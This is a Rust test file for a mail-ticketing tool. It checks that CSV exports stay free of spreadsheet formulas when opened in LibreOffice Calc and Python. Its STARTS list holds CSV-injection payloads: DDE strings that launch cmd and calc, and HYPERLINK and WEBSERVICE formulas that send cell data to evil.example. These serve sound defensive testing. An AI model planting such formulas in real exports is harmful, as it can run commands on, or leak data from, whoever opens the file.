//! What we write as CSV has the same cells in a spreadsheet and in Python as in the program, and none is a formula.

use crate::hostile_text::{FORMULAS, HOSTILE, encoded, hostile};
use crate::libreoffice::{Cell, in_calc, in_python};
use crate::session::{answer, asked, two_asked};
use crate::world::{Mail, World};

/// What starts a program, or fetches something, where a cell is taken for a formula (OWASP, CSV injection).
const STARTS: [&str; 8] = [
    "=cmd|'/C calc.exe'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"A0\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "'=1+1",
    "a\",\"=1+1",
    ";=1+1",
];

fn cells(csv: &str) -> Vec<Vec<String>> {
    let reader = &mut csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// Calc shows a number, a truth and a time in its own way; whatever else is there is there as it was written.
fn is_same(cell: &Cell, text: &str) -> bool {
    match cell.kind.as_str() {
        "float" => cell.text.parse::<f64>().ok() == text.parse().ok(),
        "boolean" => cell.text.to_lowercase() == text,
        // To the minute, where we say no more.
        "date" => {
            cell.text.strip_suffix(":00").is_some_and(|minute| minute == text) || cell.text == text
        }
        _ => cell.text == text,
    }
}

/// Python and Calc have the cells that we wrote; gives the kinds that Calc has in each column.
#[track_caller]
fn opens_everywhere(csv: &str) -> Vec<Vec<String>> {
    assert!(csv.ends_with("\r\n") && !csv.replace("\r\n", "").contains(['\r', '\n']), "{csv}");
    let written = cells(csv);
    let columns = written[0].len();
    assert!(written.len() > 1 && written.iter().all(|row| row.len() == columns), "{csv}");
    assert_eq!(in_python(csv), written);
    let calc = in_calc(csv);
    assert_eq!(calc.len(), written.len());
    for (row, written) in calc.iter().zip(&written) {
        for (place, text) in written.iter().enumerate() {
            // Calc keeps nothing of the empty cells at the end of a row.
            let cell = row.get(place).cloned().unwrap_or_else(nothing);
            assert_eq!(cell.formula, None, "{text:?} is a formula");
            assert!(is_same(&cell, text), "{text:?} became {cell:?}");
        }
    }
    let kinds = |place: usize| {
        let mut kinds: Vec<String> = calc[1..]
            .iter()
            .filter_map(|row| row.get(place))
            .map(|cell| cell.kind.clone())
            .filter(|kind| kind != "nothing")
            .collect();
        kinds.sort();
        kinds.dedup();
        kinds
    };
    (0..columns).map(kinds).collect()
}

fn nothing() -> Cell {
    Cell { kind: "nothing".to_owned(), text: String::new(), formula: None }
}

#[test]
fn a_spreadsheet_reckons_what_is_not_guarded() {
    // Otherwise the other tests would prove nothing.
    let csv = "a,b\r\n=1+1,'=1+1\r\n\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"A0\"\")\",-5\r\n";
    let calc = in_calc(csv);
    assert_eq!((calc[1][0].text.as_str(), calc[1][0].formula.as_deref()), ("2", Some("of:=1+1")));
    assert_eq!((calc[1][1].text.as_str(), &calc[1][1].formula), ("'=1+1", &None));
    assert!(calc[2][0].formula.is_some(), "{:?}", calc[2]);
    assert_eq!((calc[2][1].kind.as_str(), calc[2][1].text.as_str()), ("float", "-5"));
}

#[test]
fn numbers_of_metrics_are_numbers_to_a_spreadsheet() {
    let world = two_asked();
    world.maya("claim 1").ok();
    world.later("1h").mail(answer("maya"));
    for by in ["", "--by week", "--by owner", "--by inbox"] {
        let csv = world.maya(&format!("metrics --csv {by}")).ok().stdout;
        let kinds = opens_everywhere(&csv);
        let header = &cells(&csv)[0];
        for (name, kinds) in header.iter().zip(kinds) {
            match name.as_str() {
                "n" | "p50" | "p90" => assert_eq!(kinds, ["float"], "{name}"),
                _ => assert!(kinds.iter().all(|kind| kind == "string"), "{name}: {kinds:?}"),
            }
        }
    }
}

#[test]
fn whatever_a_stranger_writes_is_text_to_a_spreadsheet() {
    let texts: Vec<&str> = STARTS.into_iter().chain(FORMULAS).chain(HOSTILE).collect();
    let world = hostile(&texts);
    world.mail(Mail::raw(
        b"From: \xff\xfe=1+1 <raw@example.com>\nSubject: =\xe9t\xe9+1\nMessage-ID: <raw@x>\n\nHello\n",
    ));
    world.mail(Mail::from("Long <long@example.com>").subject(&encoded(&"=1+1 ".repeat(4_000))));
    for (text, thread) in STARTS.iter().zip(1..) {
        let quoted = shell_words::quote(text);
        world.maya(&format!("next {thread} {quoted} --due fri")).ok();
        world.maya(&format!("customer set {thread} --company {quoted} --phone +49301234567")).ok();
    }
    for words in [
        "list --csv",
        "review --csv",
        "log --csv",
        "export messages",
        "export threads",
        "export entries",
        "export customers",
        "export tasks",
    ] {
        opens_everywhere(&world.admin(words).ok().stdout);
    }
    assert!(world.admin("export customers").ok().stdout.contains(",'+49301234567,"));
}

#[test]
fn names_and_tags_of_our_own_are_text_to_a_spreadsheet_too() {
    let world: World = asked();
    for login in ["'-inf'", "'+1'", "'@ops'"] {
        // Names that are refused are as good as guarded.
        world.admin(&format!("member add --address x@example.org --role agent -- {login}"));
    }
    world.maya("claim 1").ok();
    world.maya("tag 1 +billing").ok();
    opens_everywhere(&world.maya("list --csv").ok().stdout);
}
